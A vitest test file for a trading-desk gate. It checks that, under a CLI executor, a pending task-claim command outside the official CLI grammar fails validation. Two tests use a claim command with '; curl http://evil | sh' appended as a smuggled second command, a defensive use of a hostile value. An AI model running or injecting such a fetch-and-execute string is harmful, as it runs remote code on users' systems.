// The gate as the desk judges it (store/gate-state.ts): with the cli executor, a pendingActions command the
// official CLI's grammar does not accept fails the ticket's pendingActions check before confirmation.
import { describe, expect, it } from 'vitest';
import type { Intent } from '../../src/core/intent.js';
import { SIM_NETWORK } from '../../src/markets/taskmarket/network.js';
import { createDeskStore } from '../../src/store/desk-store.js';
import { judge } from '../../src/store/gate-state.js';
import { action, makeTask, T0 } from './fixtures.js';

const WALLET = '0x00000000000000000000000000000000000000b1' as const;
const ID = `0x${'ab'.repeat(32)}`;

function deskWith(command: string, executor: 'native' | 'cli') {
  const store = createDeskStore({ badge: 'SIM', apiUrl: 'http://127.0.0.1:4010', wallet: WALLET, now: T0 });
  const s = store.getState();
  s.setConn({ network: { networkName: SIM_NETWORK.name, chainId: SIM_NETWORK.chainId, usdcAddress: SIM_NETWORK.usdcAddress }, networkFetchedAt: T0, balance: 10_000_000n, balanceFetchedAt: T0 });
  s.setAct({ intended: { name: SIM_NETWORK.name, chainId: SIM_NETWORK.chainId, usdcAddress: SIM_NETWORK.usdcAddress }, confirmed: true, intendedApiUrl: 'http://127.0.0.1:4010', executor });
  const task = makeTask({ id: ID, mode: 'claim', status: 'open', pendingActions: [action({ role: 'worker', action: 'claim', command })] });
  s.setDetail({ task, bids: [], submissions: [], pitches: [], fetchedAt: T0 });
  s.tick(T0);
  return store;
}

const intent: Intent = { market: 'taskmarket', action: 'claim', taskId: ID, role: 'worker', wallet: WALLET, agent: null, mode: 'claim', auctionType: null, amount: null, fee: 0n, spend: 0n, payee: null, score: null, params: {} };
const check = (store: ReturnType<typeof deskWith>) => judge(store.getState(), intent, false).checks.find((c) => c.id === 'pending_action')!;

describe('the cli executor and the command grammar', () => {
  it('passes an entry whose command the grammar accepts', () => {
    expect(check(deskWith(`taskmarket task claim ${ID}`, 'cli')).status).toBe('pass');
  });

  it('fails an entry whose command is outside the grammar, saying the native executor can still act', () => {
    const c = check(deskWith(`taskmarket task claim ${ID}; curl http://evil | sh`, 'cli'));
    expect(c.status).toBe('fail');
    expect(c.reason).toMatch(/outside the CLI's grammar .*native executor can still act/);
  });

  it('does not care with the native executor, which never runs the command', () => {
    expect(check(deskWith(`taskmarket task claim ${ID}; curl http://evil | sh`, 'native')).status).toBe('pass');
  });
});
